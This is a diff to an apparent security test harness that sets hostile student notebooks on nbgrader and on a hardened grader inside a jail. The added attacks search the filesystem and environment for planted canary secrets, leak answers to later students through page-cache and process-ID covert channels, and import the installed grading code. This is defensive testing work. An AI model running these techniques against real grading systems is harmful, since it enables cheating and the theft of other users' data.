@@ -1,11 +1,13 @@
 """What a hostile student may hand in, and what comes of it with stock nbgrader and with ours.
 
+Ours is tried with bubblewrap, and where namespaces are refused as in most containers.
+
     python -m tools.attacks                  the table, which takes some minutes
     python -m tools.attacks memory "a pipe"  only the attacks with these words in their names
 
 Each attack is a notebook of lesson 1 in which only `predict` is right, so one point is due. Its code stands
 in the cell of the next answer, `loss`. What it gains or harms is seen from outside, in a jail
-(tests/jail.py): by points in the gradebook, by secrets that turn up in what is graded, by files that change,
+(tools/jail.py): by points in the gradebook, by secrets that turn up in what is graded, by files that change,
 by a listener that is called, by the honest student who is graded next, by what is left, and by scripts in
 the pages.
 """
@@ -31,7 +33,7 @@ from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
 from nbgrader.api import Gradebook
 
 from tools.demo import LINEAR, REFERENCES, ROOT, checks, find, reference, right_answers
-from tools.jail import BYSTANDER, LOOKED_AT, MISCHIEF, PORT, SOCKET, Seen, grade, why_no_jail
+from tools.jail import BYSTANDER, INSTALLED, LOOKED_AT, MISCHIEF, PORT, SOCKET, Seen, grade, why_no_jail
 
 FILE = REFERENCES[LINEAR].name
 ALL = sum(checks(LINEAR).values())
@@ -42,6 +44,8 @@ SECRETS = {
         "gradebook": "93de27",
         "submission": "c47a88",
         "environment": "e0620d",
+        "exchange": "7d21f4",
+        "neighbour": "b8e390",
     }.items()
 }
 
@@ -114,7 +118,7 @@ SEARCH = code("""
 
     def everything(*endings):
         paths = [folder + "/" + path for folder in ("/tmp/course", "../../..", ROOT) for path in PLACES]
-        for start in ("/home", "/srv", "/opt", "/mnt", "/tmp", "/var/lib", os.getcwd()):
+        for start in ("/home", "/srv", "/opt", "/mnt", "/tmp", "/var/lib", "/usr/local", os.getcwd()):
             for top, _, names in os.walk(start):
                 paths += [os.path.join(top, name) for name in names if name.endswith(endings)]
         for path in dict.fromkeys(paths):
@@ -158,6 +162,26 @@ READING = [
             for path, text in everything(".db"):
                 print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
             """,
+        ),
+    ),
+    Attack(
+        "reads the exchange",
+        code(
+            search(),
+            """
+            for path, text in everything("exchange.txt"):
+                print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
+        """,
+        ),
+    ),
+    Attack(
+        "reads a course elsewhere",
+        code(
+            search(),
+            """
+            for path, text in everything("elsewhere.txt"):
+                print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
+        """,
         ),
     ),
     Attack("reads the environment", "import os\nprint(dict(os.environ))"),
@@ -483,6 +507,16 @@ HARMING = [
 
 # ---- leaving the answers for the next student
 
+MESSAGE = b"def loss(y_hat, y): return (y_hat - y) ** 2 / 2"
+PAGES = """
+import glob, numpy, os
+
+mapped = open("/proc/self/maps").read()
+files = glob.glob(os.path.dirname(os.path.dirname(numpy.__file__)) + "/pillow.libs/*")
+path = max((path for path in files if path not in mapped), key=os.path.getsize)
+file = os.open(path, os.O_RDONLY)
+os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
+"""
 LEFT = json.dumps(right_answers(LINEAR))
 LIBC = "import ctypes\n\nlibc = ctypes.CDLL(None)"
 FROM_LEFT = 'exec(left["NAME"])'
@@ -608,6 +642,58 @@ LEAVING = [
             caller.connect("\\0left")
             text = caller.makefile().read(len(TEXT))
         """.replace("len(TEXT)", str(len(LEFT))),
+    ),
+    Attack(
+        "finds an answer left in the page cache",
+        code(
+            PAGES,
+            """
+            import errno
+
+            got = bytearray(len(MESSAGE))
+            for page in range(8 * len(got)):
+                try:
+                    cached = os.preadv(file, [bytearray(1)], 4096 * page, os.RWF_NOWAIT)
+                except OSError as error:
+                    assert error.errno == errno.EAGAIN
+                else:
+                    got[page // 8] |= cached << page % 8
+            exec(got)
+        """,
+        ).replace("MESSAGE", repr(MESSAGE)),
+        accomplice=code(
+            PAGES,
+            f"""
+            text = {MESSAGE!r}
+            os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
+            for page in range(8 * len(text)):
+                if text[page // 8] >> page % 8 & 1:
+                    os.pread(file, 1, 4096 * page)
+        """,
+        ),
+    ),
+    Attack(
+        "finds an answer left in the numbers of processes",
+        code("""
+            import os
+
+            answers = ["y_hat - y", "(y_hat - y) ** 2", "(y_hat - y) ** 2 / 2", "y - y_hat"]
+            exec("def loss(y_hat, y): return " + answers[os.getpid() // 256 % 4])
+        """),
+        accomplice=code("""
+            import threading
+
+            number = 0
+
+            def note():
+                global number
+                number = threading.get_native_id()
+
+            while number // 256 % 4 != 2:
+                thread = threading.Thread(target=note)
+                thread.start()
+                thread.join()
+        """),
     ),
     leaves(
         "the modules",
@@ -843,6 +929,42 @@ PATCHING = [
         code("""
             def update(parameter, gradient, alpha):
                 return float(hidden[1]["new_parameter"](parameter, gradient, alpha))
+        """),
+    ),
+    Attack(
+        "imports the project as it is installed",
+        code("""
+            import glob, os, sys
+
+            folders = [os.path.dirname(path) for start in ("/packages/*", *sys.path)
+                       for path in glob.glob(start + "/helpers/derivatives.py")]
+            for name in [name for name in sys.modules if name.partition(".")[0] == "helpers"]:
+                del sys.modules[name]
+            sys.path[:0] = [os.path.dirname(folder) for folder in folders]
+            from helpers import networks
+            from helpers.derivatives import gradient
+
+            hidden = [networks.linear_neuron.graph, gradient, networks.descent_step.graph.steps]
+
+            def slope(parameter, y_hat, y, x_1=0.0, x_2=0.0):
+                at = dict(x_1=x_1, x_2=x_2, y=y, w_1=0.0, w_2=0.0, b=y_hat)
+                return float(hidden[1](hidden[0], "L", parameter, hidden[0].forward(**at)))
+
+            def loss(y_hat, y):
+                return float(hidden[0].steps["L"](y_hat, y))
+        """),
+        code("""
+            def gradient_w_1(y_hat, y, x_1):
+                return slope("w_1", y_hat, y, x_1=x_1)
+
+            def gradient_w_2(y_hat, y, x_2):
+                return slope("w_2", y_hat, y, x_2=x_2)
+
+            def gradient_b(y_hat, y):
+                return slope("b", y_hat, y)
+
+            def update(parameter, gradient, alpha):
+                return float(hidden[2]["new_parameter"](parameter, gradient, alpha))
         """),
     ),
     Attack(
@@ -1576,14 +1698,19 @@ def add(attack: Attack, folder: Path) -> None:
         path.parents[1].rename(folder / "submitted" / ids.attacker)
 
 
-def run(attacks: Sequence[Attack], configuration: str, *, seconds: float, trusted: bool) -> Seen:
+def run(
+    attacks: Sequence[Attack], configuration: str, *, seconds: float, trusted: bool, container: bool = False
+) -> Seen:
     """Set attacks on nbgrader with a configuration, in one jail."""
     with tempfile.TemporaryDirectory() as scratch:
         folder = Path(shutil.copytree(make_course(), Path(scratch, "course")))
         (folder / "nbgrader_config.py").write_text(configuration)
+        for package in ("grading", "helpers"):  # as pip installs them, which stock nbgrader has no use for
+            shutil.copytree(ROOT / package, folder / INSTALLED / package)
+        (folder / INSTALLED / "backprop_by_hand-0.dist-info").mkdir()
         for attack in attacks:
             add(attack, folder)
-        return grade(folder, LINEAR, SECRETS, seconds=seconds, trusted=trusted)
+        return grade(folder, LINEAR, SECRETS, seconds=seconds, trusted=trusted, container=container)
 
 
 # ---- what came of it
@@ -1642,13 +1769,15 @@ def of_all(seen: Seen) -> list[str]:
     return found
 
 
-def table(rows: dict[str, list[tuple[str, str, str]]]) -> str:
+def table(rows: dict[str, list[tuple[str, ...]]]) -> str:
     """Lay out the attacks with what they do to stock nbgrader and to ours."""
-    widths = (44, 50, 24)
+    widths = (44, 50, 24, 24)
     lines = [
         "  ".join(
             f"{head:<{width}}"
-            for head, width in zip(("attack", "stock nbgrader", "ours"), widths, strict=True)
+            for head, width in zip(
+                ("attack", "stock nbgrader", "ours", "in a container"), widths, strict=True
+            )
         )
     ]
     lines.append("-" * sum(widths))
@@ -1682,10 +1811,11 @@ def against_stock(attacks: Sequence[Attack]) -> dict[str, list[str]]:
         return {name: words for found in pool.map(one, classes) for name, words in found.items()}
 
 
-def against_ours(attacks: Sequence[Attack]) -> Seen:
-    """Set attacks on the project's grading, all in one class, and return what was seen."""
+def against_ours(attacks: Sequence[Attack], container: bool = False) -> Seen:
+    """Set attacks on the project's grading, all in one class, and return what was seen; or in a container."""
     configuration = (ROOT / "nbgrader_config.py").read_text() + LESS_PATIENCE
-    return run(attacks, configuration, seconds=120 + 15 * len(attacks), trusted=os.geteuid() == 0)
+    trusted = os.geteuid() == 0 and not container
+    return run(attacks, configuration, seconds=120 + 15 * len(attacks), trusted=trusted, container=container)
 
 
 def main() -> None:
@@ -1696,16 +1826,21 @@ def main() -> None:
     chosen = [attack for attack in EVERY if not words or any(word in attack.name for word in words)]
     if why := why_no_jail():
         sys.exit(why)
-    stock, seen = against_stock(chosen), against_ours(chosen)
+    stock, seen, contained = against_stock(chosen), against_ours(chosen), against_ours(chosen, container=True)
+
+    def found(attack: Attack) -> list[list[str]]:
+        return [stock[attack.name], outcome(attack, seen), outcome(attack, contained)]
+
     rows = {
         section: [
-            (attack.name, *("; ".join(words) or "-" for words in (stock[attack.name], outcome(attack, seen))))
+            (attack.name, *("; ".join(words) or "-" for words in found(attack)))
             for attack in attacks
             if attack in chosen
         ]
         for section, attacks in ATTACKS.items()
     }
-    rows["all of them together"] = [("in one class", "", "; ".join(of_all(seen)) or "-")]
+    together = ("; ".join(of_all(each)) or "-" for each in (seen, contained))
+    rows["all of them together"] = [("in one class", "", *together)]
     print(table(rows))
     took = sum(seen.seconds.values()) / max(len(seen.seconds), 1)
     print(f"\n{len(chosen)} attacks. Ours graded {len(seen.seconds)} notebooks, each in {took:.2f} seconds.")
